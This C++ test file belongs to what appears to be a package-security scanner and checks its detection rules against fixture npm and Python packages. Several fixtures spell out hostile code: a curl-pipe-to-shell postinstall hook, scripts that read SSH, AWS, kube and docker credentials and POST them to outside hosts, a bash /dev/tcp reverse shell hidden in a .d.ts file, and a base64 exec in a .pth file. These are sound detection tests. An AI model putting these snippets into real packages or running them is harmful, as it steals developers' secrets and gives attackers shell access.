// Analyzer behaviour on real package trees written to a temp dir and scanned end to end by
// PackageScanner with the shipped rules.
#include "airlock/analyze/package_scan.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "airlock/catalogue/catalogue.h"
#include "test_util.h"

namespace airlock::analyze {
namespace {

using airlock::testing::TempDir;

const Engine& engine() {
  static std::shared_ptr<const Engine> e = [] {
    // Same rules as the CLI: shipped YARA rules plus the catalogue's generated targets.
    EngineOptions options;
    auto cat = catalogue::Catalogue::load_embedded();
    EXPECT_TRUE(cat);
    if (cat) options.rules.generated = cat->to_yara();
    auto r = Engine::create(options);
    EXPECT_TRUE(r) << r.error().message;
    return *r;
  }();
  return *e;
}

TargetResult scan_dir(const TempDir& t) {
  artifact::TargetSpec spec;
  spec.display_path = t.str();
  spec.fs_path = t.str();
  spec.kind = "directory";
  PackageScanner scanner(engine());
  return scanner.scan(spec);
}

const Finding* find_rule(const TargetResult& r, std::string_view rule) {
  for (const auto& f : r.findings)
    if (f.rule == rule) return &f;
  return nullptr;
}

Severity max_severity(const TargetResult& r) {
  Severity m = Severity::kInfo;
  for (const auto& f : r.findings) m = std::max(m, f.severity);
  return m;
}

TEST(PackageScan, NameVersionAndKindFromPackageJson) {
  TempDir t;
  t.write("package.json", R"({"name":"left-pad-x","version":"1.2.3","main":"index.js"})");
  t.write("index.js", "module.exports = (s) => s;\n");
  auto r = scan_dir(t);
  EXPECT_EQ(r.info.kind, "npm-package");
  EXPECT_EQ(r.info.name, "left-pad-x");
  EXPECT_EQ(r.info.version, "1.2.3");
  EXPECT_TRUE(r.errors.empty());
  EXPECT_LT(max_severity(r), Severity::kMedium);
}

TEST(PackageScan, PipeToShellInPostinstallIsCritical) {
  TempDir t;
  t.write("package.json",
          "{\n  \"name\": \"x\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n"
          "    \"postinstall\": \"curl -s http://203.0.113.7/i.sh | sh\"\n  }\n}\n");
  auto r = scan_dir(t);
  const Finding* f = find_rule(r, "install-script-pipe-to-shell");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::kCritical);
  EXPECT_EQ(f->category, Category::kDownloadExec);
  ASSERT_TRUE(f->location);
  EXPECT_EQ(f->location->path, "package.json");
  EXPECT_EQ(f->location->line, 5);
}

TEST(PackageScan, LifecycleScriptFilesAreInstallReachable) {
  // The same credential-stealing code weighs more when postinstall runs it (through a
  // require chain) than when it only sits in the library.
  const std::string stealer =
      "const fs = require('fs'); const https = require('https');\n"
      "const k = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\n"
      "https.request({host: '198.51.100.9', method: 'POST'}).end(k);\n";
  TempDir install;
  install.write("package.json",
                R"({"name":"a","version":"1.0.0","scripts":{"postinstall":"node setup.js"}})");
  install.write("setup.js", "require('./lib/steal');\n");
  install.write("lib/steal.js", stealer);
  TempDir runtime;
  runtime.write("package.json", R"({"name":"a","version":"1.0.0"})");
  runtime.write("lib/steal.js", stealer);
  Severity at_install = max_severity(scan_dir(install));
  Severity at_runtime = max_severity(scan_dir(runtime));
  EXPECT_GE(at_install, Severity::kHigh);
  EXPECT_LT(at_runtime, at_install);
}

TEST(PackageScan, ProseInMarkdownStaysLow) {
  TempDir t;
  t.write("package.json", R"({"name":"docs","version":"1.0.0"})");
  t.write("README.md",
          "Install with `curl -s https://example.invalid/i.sh | sh`.\n"
          "Never commit ~/.ssh/id_rsa. `bash -i >& /dev/tcp/192.0.2.1/4444 0>&1` is a reverse "
          "shell.\n");
  EXPECT_LE(max_severity(scan_dir(t)), Severity::kLow);
}

TEST(PackageScan, BinShadowingCommonCommand) {
  TempDir t;
  t.write("package.json", R"({"name":"gitx","version":"1.0.0","bin":{"git":"cli.js"}})");
  t.write("cli.js", "#!/usr/bin/env node\n");
  TargetResult r = scan_dir(t);
  const Finding* f = find_rule(r, "bin-shadows-command");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->category, Category::kBinaryShadowing);
  // The npm package itself provides npm: not shadowing.
  TempDir npm;
  npm.write("package.json", R"({"name":"npm","version":"11.0.0","bin":{"npm":"bin/npm-cli.js"}})");
  EXPECT_EQ(find_rule(scan_dir(npm), "bin-shadows-command"), nullptr);
}

TEST(PackageScan, DependencyUrlSpecs) {
  TempDir t;
  t.write("package.json",
          R"({"name":"d","version":"1.0.0","dependencies":{"a":"http://203.0.113.5/a.tgz",)"
          R"("b":"git+https://example.invalid/b.git","c":"^1.0.0","e":"user/repo"}})");
  auto r = scan_dir(t);
  int count = 0;
  bool high = false;
  for (const auto& f : r.findings) {
    if (f.rule != "npm-dependency-url") continue;
    ++count;
    high |= f.severity == Severity::kHigh && f.evidence.find("a: http://") == 0;
  }
  EXPECT_EQ(count, 3);
  EXPECT_TRUE(high);
}

// npm aliases install the package after "npm:", under the key as folder name: the declared
// dependency is that package (react-17 is react, and a popular key can hide a squat).
TEST(PackageScan, DependencyAliasesDeclareTheInstalledPackage) {
  TempDir t;
  t.write("package.json",
          R"({"name":"d","version":"1.0.0","dependencies":{"react-17":"npm:react@^17.0.2",)"
          R"("core8":"npm:@babel/core@^8","lodash":"npm:lodahs@1","plain":"^1.0.0",)"
          R"("bare":"npm:left-pad","empty":"npm:","scoped-empty":"npm:@"}})");
  auto r = scan_dir(t);
  std::vector<std::string> names;
  for (const auto& d : r.dependencies) names.push_back(d.name);
  std::sort(names.begin(), names.end());
  EXPECT_EQ(names, (std::vector<std::string>{"@babel/core", "empty", "left-pad", "lodahs", "plain",
                                             "react", "scoped-empty"}));
}

TEST(PackageScan, UnparsableAndDeepPackageJson) {
  TempDir bad;
  bad.write("package.json", "{not json");
  EXPECT_NE(find_rule(scan_dir(bad), "manifest-unparsable"), nullptr);
  TempDir deep;
  deep.write("package.json", std::string(100000, '[') + std::string(100000, ']'));
  TargetResult r = scan_dir(deep);
  const Finding* f = find_rule(r, "manifest-unparsable");
  ASSERT_NE(f, nullptr);
  EXPECT_NE(f->message.find("deeper"), std::string::npos);
}

TEST(PackageScan, PythonPthAndSitecustomize) {
  TempDir t;
  t.write("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n\n");
  t.write("demo.pth", "import os; exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n");
  t.write("sitecustomize.py", "print('hi')\n");
  auto r = scan_dir(t);
  EXPECT_EQ(r.info.name, "demo");
  EXPECT_EQ(r.info.version, "1.0");
  const Finding* pth = find_rule(r, "pth-executes-code");
  ASSERT_NE(pth, nullptr);
  EXPECT_EQ(pth->severity, Severity::kHigh);
  EXPECT_EQ(pth->location->line, 1);
  ASSERT_NE(find_rule(r, "ships-sitecustomize"), nullptr);
}

TEST(PackageScan, PthThatOnlyAddsAPathIsQuiet) {
  TempDir t;
  t.write("demo-1.0.dist-info/METADATA", "Name: demo\nVersion: 1.0\n\n");
  t.write("demo.pth", "/opt/demo/lib\n");
  auto r = scan_dir(t);
  EXPECT_EQ(find_rule(r, "pth-import-line"), nullptr);
  EXPECT_EQ(find_rule(r, "pth-executes-code"), nullptr);
}

TEST(PackageScan, SetupPyCmdclassInstallOverride) {
  TempDir t;
  t.write("setup.py",
          "from setuptools import setup\nfrom setuptools.command.install import install\n"
          "class Post(install):\n    def run(self):\n        install.run(self)\n\n"
          "setup(name='demo', version='2.0', cmdclass={'install': Post})\n");
  auto r = scan_dir(t);
  EXPECT_EQ(r.info.kind, "pypi-project");
  EXPECT_EQ(r.info.name, "demo");
  const Finding* f = find_rule(r, "setup-cmdclass-override");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->location->line, 7);
}

TEST(PackageScan, ConsoleScriptShadowing) {
  TempDir t;
  t.write("x-1.0.dist-info/METADATA", "Name: x\nVersion: 1.0\n\n");
  t.write("x-1.0.dist-info/entry_points.txt", "[console_scripts]\npip = x.cli:main\nxtool = x:m\n");
  auto r = scan_dir(t);
  const Finding* f = find_rule(r, "console-script-shadows-command");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence, "pip");
}

TEST(PackageScan, DeferredDeclarationFileIsScannedWhenInstallCodeLoadsIt) {
  // Type declarations are skipped in the first pass, but Node loads any file it is asked
  // to require: a payload hidden in a .d.ts must still be found.
  const std::string shell =
      "require('child_process').exec('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1');\n";
  TempDir loaded;
  loaded.write("package.json",
               R"({"name":"t","version":"1.0.0","scripts":{"postinstall":"node setup.js"}})");
  loaded.write("setup.js", "require('./types/index.d.ts');\n");
  loaded.write("types/index.d.ts", shell);
  EXPECT_GE(max_severity(scan_dir(loaded)), Severity::kHigh);

  TempDir unreferenced;
  unreferenced.write("package.json", R"({"name":"t","version":"1.0.0"})");
  unreferenced.write("types/index.d.ts", shell);
  EXPECT_LT(max_severity(scan_dir(unreferenced)), Severity::kMedium);
}

TEST(PackageScan, CredentialHarvesterInImportTimeCodeIsHigh) {
  // No install script: the stealer runs when the package is imported (or its bin launched
  // by npx). One credential family next to a network call is what SDKs do; many is not.
  TempDir t;
  t.write("package.json", R"({"name":"h","version":"1.0.0","main":"index.js"})");
  t.write(
      "index.js",
      "const fs = require('fs'), os = require('os'), https = require('https');\n"
      "const files = ['.ssh/id_rsa', '.aws/credentials', '.kube/config', '.docker/config.json'];\n"
      "const out = files.map((f) => { try { return fs.readFileSync(os.homedir() + '/' + f, "
      "'utf8'); } catch (e) { return ''; } });\n"
      "https.request({ host: 'collect.example.invalid', method: 'POST' "
      "}).end(JSON.stringify(out));\n");
  TargetResult r = scan_dir(t);
  const Finding* f = find_rule(r, "credential-harvester");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::kHigh);
  EXPECT_EQ(f->category, Category::kCredentialAccess);

  TempDir sdk;
  sdk.write("package.json", R"({"name":"cloud-sdk","version":"1.0.0","main":"index.js"})");
  sdk.write("index.js",
            "const fs = require('fs'), os = require('os'), https = require('https');\n"
            "const creds = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');\n"
            "https.request({ host: 'sts.example.invalid' }).end();\n");
  TargetResult s = scan_dir(sdk);
  EXPECT_EQ(find_rule(s, "credential-harvester"), nullptr);
  EXPECT_LT(max_severity(s), Severity::kHigh);
}

TEST(PackageScan, DirectoryWithoutManifest) {
  TempDir t;
  t.write("notes.txt", "hello\n");
  auto r = scan_dir(t);
  EXPECT_EQ(r.info.kind, "directory");
  EXPECT_NE(find_rule(r, "no-manifest"), nullptr);
}

}  // namespace
}  // namespace airlock::analyze
